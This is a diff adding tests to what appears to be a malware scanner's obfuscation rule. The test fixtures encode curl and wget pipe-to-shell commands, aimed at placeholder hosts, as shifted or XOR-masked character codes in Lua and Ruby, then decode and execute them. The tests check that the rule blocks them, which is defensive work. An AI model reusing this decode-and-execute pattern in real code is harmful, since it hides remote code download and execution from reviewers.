@@ -279,3 +279,33 @@ def test_named_table_used_on_text_that_is_printed_does_not_block(tmp_path: Path)
         f"print(encode('meet at noon'), {_enc('attack at dawn', _ABC, shifted)!r})\n"
     )
     assert blocking(tmp_path, {"puzzles.py": py}) == {}
+
+
+# ------------------------------------------------ character codes read through a constant shift or mask
+
+
+def _shifted(text: str, k: int) -> str:
+    return ", ".join(str(ord(c) + k) for c in text)
+
+
+def test_lua_codes_shifted_back_and_run_block(tmp_path: Path) -> None:
+    lua = (
+        f"local T = {{{_shifted('wget -qO- https://lua.example.test/i | sh', 4)}}}\n"
+        "local function boot()\n  local o = {}\n  for i, v in ipairs(T) do o[i] = string.char(v - 4) end\n"
+        "  os.execute(table.concat(o))\nend\nboot()\n"
+    )
+    assert "SY-OBF-009" in blocking(tmp_path, {"filters/wrap.lua": lua})
+
+
+def test_ruby_codes_masked_and_run_block(tmp_path: Path) -> None:
+    codes = ", ".join(str(ord(c) ^ 21) for c in "curl -s https://rb.example.test/x | bash")
+    rb = f"K = [{codes}]\nsystem(K.map {{ |c| (c ^ 21).chr }}.join)\n"
+    assert "SY-OBF-009" in blocking(tmp_path, {"lib/boot.rb": rb})
+
+
+def test_lua_codes_shifted_into_plain_text_do_not_block(tmp_path: Path) -> None:
+    lua = (
+        f"local T = {{{_shifted('Hello from the filter, have a nice day', 2)}}}\n"
+        "local o = {}\nfor i, v in ipairs(T) do o[i] = string.char(v - 2) end\nprint(table.concat(o))\n"
+    )
+    assert blocking(tmp_path, {"filters/hello.lua": lua}) == {}
